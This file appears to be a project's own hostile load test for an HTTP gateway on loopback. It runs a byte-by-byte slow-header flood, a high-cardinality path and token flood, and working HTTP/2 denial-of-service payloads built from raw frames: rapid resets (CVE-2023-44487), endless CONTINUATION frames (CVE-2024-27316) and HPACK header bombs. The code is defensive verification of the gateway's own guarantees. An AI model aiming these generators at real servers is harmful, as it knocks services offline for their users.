#!/usr/bin/env python3
"""Hostile load on a gateway that listens on loopback; loadtest/hostile.sh starts one and runs this.

    hostile.py slow GATEWAY_PORT PID       10,000 connections that send a head byte by byte, an ordinary caller beside
    hostile.py many GATEWAY_PORT ADMIN_PORT PID    100,000 distinct paths, clients and kids; the metric series
    hostile.py http2 TLS_PORT GATEWAY_PORT ADMIN_PORT PID    rapid resets, CONTINUATION without end, and header
                                                   bombs over TLS for five seconds each, an ordinary caller beside

Prints one JSON object; exits 1 when what docs/security.md promises did not hold.
"""

import base64
import json
import multiprocessing
import os
import select
import selectors
import socket
import ssl
import struct
import sys
import time
import urllib.request

HOST = "127.0.0.1"
# What a connection may cost while its head comes, its task included: docs/operations.md.
KIB_EACH = 24
DRIP = b"GET /contact HTTP/1.1\r\nHost: a\r\nX-Slow: " + b"a" * 4000


def resident_kib(pid):
    with open(f"/proc/{pid}/status", encoding="ascii") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS:"))


def series(admin_port):
    with urllib.request.urlopen(f"http://{HOST}:{admin_port}/metrics", timeout=10) as answer:
        text = answer.read().decode()
    return sum(1 for line in text.splitlines() if line and not line.startswith("#"))


class Caller:
    """One kept connection that asks one thing after the other."""

    def __init__(self, port):
        self.port = port
        self.open()

    def open(self):
        self.stream = socket.create_connection((HOST, self.port), timeout=10)
        self.stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.left = b""

    def ask(self, target, fields=""):
        self.stream.sendall(f"GET {target} HTTP/1.1\r\nHost: a\r\n{fields}\r\n".encode())
        while b"\r\n\r\n" not in self.left:
            self.more()
        head, self.left = self.left.split(b"\r\n\r\n", 1)
        lines = head.lower().split(b"\r\n")
        length = next(int(line[15:]) for line in lines if line.startswith(b"content-length:"))
        while len(self.left) < length:
            self.more()
        self.left = self.left[length:]
        if b"connection: close" in lines:
            self.open()
        return int(head.split()[1])

    def more(self):
        got = self.stream.recv(65536)
        if not got:
            raise ConnectionError("the gateway hung up")
        self.left += got


def part(pid):
    """One core is the attacker's and ours alone, or its load would be taken for what it does to the gateway."""
    cores = sorted(os.sched_getaffinity(0))
    if len(cores) > 1:
        for task in os.listdir(f"/proc/{pid}/task"):
            os.sched_setaffinity(int(task), cores[:-1])
        os.sched_setaffinity(0, cores[-1:])


def ordinary(port, seconds, said):
    """Asks every five milliseconds; says the latencies in milliseconds and the count of other answers than 200."""
    others = sorted(set(range(os.cpu_count())) - os.sched_getaffinity(0))
    os.sched_setaffinity(0, others or os.sched_getaffinity(0))
    caller = Caller(port)
    found = {"latencies": [], "refused": 0}
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        began = time.monotonic()
        status = caller.ask("/contact")
        found["latencies"].append((time.monotonic() - began) * 1000)
        if status != 200:
            found["refused"] += 1
        time.sleep(0.005)
    said.send(found)


def measured(port, seconds, beside=None):
    # A process of its own: beside a thread that attacks, a caller would measure Python's lock.
    heard, said = multiprocessing.Pipe(duplex=False)
    caller = multiprocessing.Process(target=ordinary, args=(port, seconds, said))
    caller.start()
    said.close()
    if beside:
        beside()
    found = heard.recv()
    caller.join()
    latencies = sorted(found["latencies"])
    return {
        "requests": len(latencies),
        "refused": found["refused"],
        "p50_ms": round(latencies[len(latencies) // 2], 2),
        "p99_ms": round(latencies[int(len(latencies) * 0.99)], 2),
    }


def slow(port, pid, count=10_000, seconds=20):
    baseline = measured(port, 5)
    before = resident_kib(pid)
    peak = {"kib": 0, "open": 0}
    ended = []

    def attack():
        selector = selectors.DefaultSelector()
        began = time.monotonic()
        sockets = {}
        for number in range(count):
            # A source of its own for every 500: one source alone may have 1000.
            stream = socket.socket()
            stream.bind((f"127.0.1.{1 + number // 500}", 0))
            stream.connect((HOST, port))
            stream.setblocking(False)
            selector.register(stream, selectors.EVENT_READ)
            sockets[stream] = (time.monotonic(), 0)
        at = 0
        while sockets and time.monotonic() - began < seconds + 15:
            # Each of them a byte in about two seconds.
            for stream in list(sockets)[at % 20 :: 20]:
                opened, sent = sockets[stream]
                try:
                    stream.send(DRIP[sent : sent + 1])
                    sockets[stream] = (opened, sent + 1)
                except OSError:
                    pass
            at += 1
            for key, _ in selector.select(timeout=0.1):
                stream = key.fileobj
                try:
                    if stream.recv(4096):
                        continue
                except OSError:
                    pass
                selector.unregister(stream)
                stream.close()
                ended.append(time.monotonic() - sockets.pop(stream)[0])
            peak["kib"] = max(peak["kib"], resident_kib(pid))
            peak["open"] = max(peak["open"], len(sockets))
        peak["left"] = len(sockets)

    beside = measured(port, seconds, attack)
    return {
        "connections": count,
        "open_at_once": peak["open"],
        "never_ended": peak["left"],
        "longest_s": round(max(ended), 1),
        "resident_kib": {"before": before, "peak": peak["kib"]},
        "ordinary": {"baseline": baseline, "beside": beside},
    }, peak["left"] == 0 and beside["refused"] == 0 and peak["kib"] - before < KIB_EACH * count


def token(number):
    """Looks like a token; its client, its key and its signature are nobody's."""

    def part(value):
        return base64.urlsafe_b64encode(json.dumps(value).encode()).rstrip(b"=").decode()

    claims = {"iss": f"http://issuer-{number}", "azp": f"client-{number}", "sub": f"s-{number}"}
    return f"{part({'alg': 'RS256', 'kid': f'kid-{number}'})}.{part(claims)}.{'A' * 342}"


def many(port, admin_port, pid, count=100_000):
    caller = Caller(port)
    for target in ("/contact", "/nowhere", "/eazybank/accounts/x"):
        caller.ask(target)
    caller.ask("/eazybank/accounts/x", f"Authorization: Bearer {token(0)}\r\n")
    before, resident = series(admin_port), resident_kib(pid)
    began = time.monotonic()
    statuses = {}
    for number in range(count):
        if number % 2:
            status = caller.ask(f"/nowhere/{number}?q={number}", f"User-Agent: a-{number}\r\n")
        else:
            field = f"Authorization: Bearer {token(number)}\r\nX-Request-Id: r-{number}\r\n"
            status = caller.ask(f"/eazybank/accounts/{number}", field)
        statuses[status] = statuses.get(status, 0) + 1
    after = series(admin_port)
    return {
        "requests": count,
        "seconds": round(time.monotonic() - began, 1),
        "statuses": statuses,
        "series": {"before": before, "after": after},
        "resident_kib": {"before": resident, "after": resident_kib(pid)},
    }, after == before


# RFC 9113 section 4.1 and RFC 7541 appendix A: `:method GET`, `:scheme https`, `:path /`, `:authority a`.
HEAD = b"\x82\x87\x84\x01\x01a"
HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 1, 3, 4, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def rapid_resets():
    """CVE-2023-44487: each request is taken back at once."""
    for number in range(1, 200_001, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, HEAD) + frame(
            RST_STREAM, 0, number, struct.pack(">I", 8)
        )


def endless_head():
    """CVE-2024-27316: a head that goes on in CONTINUATION frames and never ends."""
    yield frame(HEADERS, END_STREAM, 1, HEAD)
    field = b"\x00\x01x\x7f\x9e\x01" + b"y" * 285
    while True:
        yield frame(CONTINUATION, 0, 1, field * 50)


def bombs():
    """A field of 4 kB put into the table once, and then named a thousand times by one byte each."""
    value = b"z" * 4000
    put = b"\x40\x01b" + b"\x7f" + bytes([((len(value) - 127) & 127) | 128, (len(value) - 127) >> 7]) + value
    for number in range(1, 200_001, 2):
        named = HEAD + (put if number == 1 else b"") + b"\xbe" * 1000
        yield frame(HEADERS, END_HEADERS | END_STREAM, number, named)


def assail(port, pieces, seconds):
    """Connection after connection; how many were ended by the gateway, and what was written in all."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    until = time.monotonic() + seconds
    ended = stalled = written = 0
    while time.monotonic() < until:
        plain = socket.create_connection((HOST, port), timeout=10)
        try:
            with context.wrap_socket(plain) as stream:
                stream.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
                for piece in pieces():
                    stream.sendall(piece)
                    written += len(piece)
                    if time.monotonic() > until:
                        break
                    # It says goodbye, and takes what comes behind that for a moment.
                    if select.select([stream], [], [], 0)[0] and not stream.recv(65536):
                        raise ConnectionError
        except TimeoutError:
            stalled += 1
        except OSError:
            ended += 1
    return {
        "connections_ended": ended,
        "stalled": stalled,
        "mib_written": round(written / 2**20, 1),
    }


def http2(tls_port, port, admin_port, pid):
    baseline = measured(port, 5)
    series_before, before = series(admin_port), resident_kib(pid)
    found = {}
    held = True
    for pieces in (rapid_resets, endless_head, bombs):
        attack = {}
        beside = measured(port, 5, lambda: attack.update(assail(tls_port, pieces, 5)))
        found[pieces.__name__] = attack | {"ordinary": beside, "resident_kib": resident_kib(pid)}
        held = held and beside["refused"] == 0 and attack["connections_ended"] > 0
    after = series(admin_port)
    return {
        "baseline": baseline,
        "attacks": found,
        "series": {"before": series_before, "after": after},
        "resident_kib": {"before": before, "after": resident_kib(pid)},
    }, held and after == series_before


def main():
    what, *numbers = sys.argv[1:]
    parts = {"slow": slow, "many": many, "http2": http2}
    numbers = [int(number) for number in numbers]
    part(numbers[-1])
    result, held = parts[what](*numbers)
    result["date"] = time.strftime("%Y-%m-%d", time.gmtime())
    result["cores"] = os.cpu_count()
    print(json.dumps({what: result}))
    sys.exit(0 if held else 1)


if __name__ == "__main__":
    main()
